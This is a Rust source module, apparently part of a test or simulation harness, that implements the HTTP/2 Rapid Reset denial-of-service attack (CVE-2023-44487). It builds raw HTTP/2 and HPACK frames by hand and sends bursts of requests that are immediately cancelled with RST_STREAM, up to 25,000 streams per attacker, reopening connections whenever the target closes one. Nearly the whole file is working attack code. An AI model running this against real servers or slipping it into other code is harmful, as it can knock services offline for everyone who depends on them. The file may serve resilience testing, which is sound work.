//! HTTP/2 rapid reset, CVE-2023-44487: streams that are canceled immediately after the request, so that no
//! limit on streams counts them.
//!
//! The frames are written by hand, because a library for HTTP/2 obeys the rules that this attack breaks.

use std::net::SocketAddr;
use std::time::Duration;

use super::exchange::{ATTACKER, Connection};
use super::seen::Seen;
use crate::clock::now;

/// The first bytes that an HTTP/2 client sends.
pub(super) const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// Number of requests that are canceled together, in one write.
const BURST: u32 = 50;

/// Number of streams of one attacker, over all its connections.
const STREAMS: u32 = 25_000;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const CANCEL: u32 = 8;

/// Cancels requests until the end. If a connection is closed, another follows.
pub(super) fn reset(path: &str, body: &str, to: SocketAddr, is_over: &dyn Fn() -> bool) -> Seen {
    let mut seen = Seen::default();
    let mut left = STREAMS;
    while !is_over() && left > 0 {
        let until = now() + Duration::from_millis(500);
        let Ok(mut connection) = Connection::open(ATTACKER, to, until) else {
            seen.count("not opened");
            continue;
        };
        seen.count("opened");
        let settings = frame(SETTINGS, 0, 0, &[]);
        let opened = connection.send_raw(&[PREFACE, &settings].concat(), until);
        let mut stream = 1;
        let mut is_open = opened.is_ok();
        while is_open && !is_over() && left > 0 {
            let burst: Vec<u8> = (0..BURST)
                .flat_map(|number| canceled(stream + 2 * number, path, body))
                .collect();
            stream += 2 * BURST;
            left = left.saturating_sub(BURST);
            let until = now() + Duration::from_millis(500);
            is_open = connection.send_raw(&burst, until).is_ok() && connection.drain().is_ok();
            seen.add("streams", u64::from(BURST));
        }
        if !is_open {
            seen.count("closed by service");
        }
    }
    seen
}

/// A complete request, and its cancellation.
fn canceled(stream: u32, path: &str, body: &str) -> Vec<u8> {
    let mut out = frame(HEADERS, END_HEADERS, stream, &head(path, body.len()));
    out.extend(frame(DATA, END_STREAM, stream, body.as_bytes()));
    out.extend(frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes()));
    out
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("frames here are short");
    let mut out = length.to_be_bytes()[1..].to_vec();
    out.extend([kind, flags]);
    out.extend(stream.to_be_bytes());
    out.extend(payload);
    out
}

/// The head of a POST in HPACK (RFC 7541): indices of the static table, text without compression.
fn head(path: &str, length: usize) -> Vec<u8> {
    let text = |index: &[u8], text: &str| {
        let size = u8::try_from(text.len()).expect("texts here are short");
        [index, &[size], text.as_bytes()].concat()
    };
    // Header indices: 3 is `:method: POST` and 6 is `:scheme: http`. 4 has the name `:path` and 1
    // `:authority`. 31 and 28 are `content-type` and `content-length`, and 15 of each fit into the first
    // byte.
    [
        vec![0x83, 0x86],
        text(&[0x04], path),
        text(&[0x01], super::exchange::HOST),
        text(&[0x0f, 0x10], "application/json"),
        text(&[0x0f, 0x0d], &length.to_string()),
    ]
    .concat()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_are_those_of_the_rfc() {
        assert_eq!(
            frame(RST_STREAM, 0, 3, &CANCEL.to_be_bytes()),
            [0, 0, 4, 3, 0, 0, 0, 0, 3, 0, 0, 0, 8]
        );
        assert_eq!(
            head("/", 2)[..8],
            [0x83, 0x86, 0x04, 1, b'/', 0x01, 9, b'l']
        );
    }
}
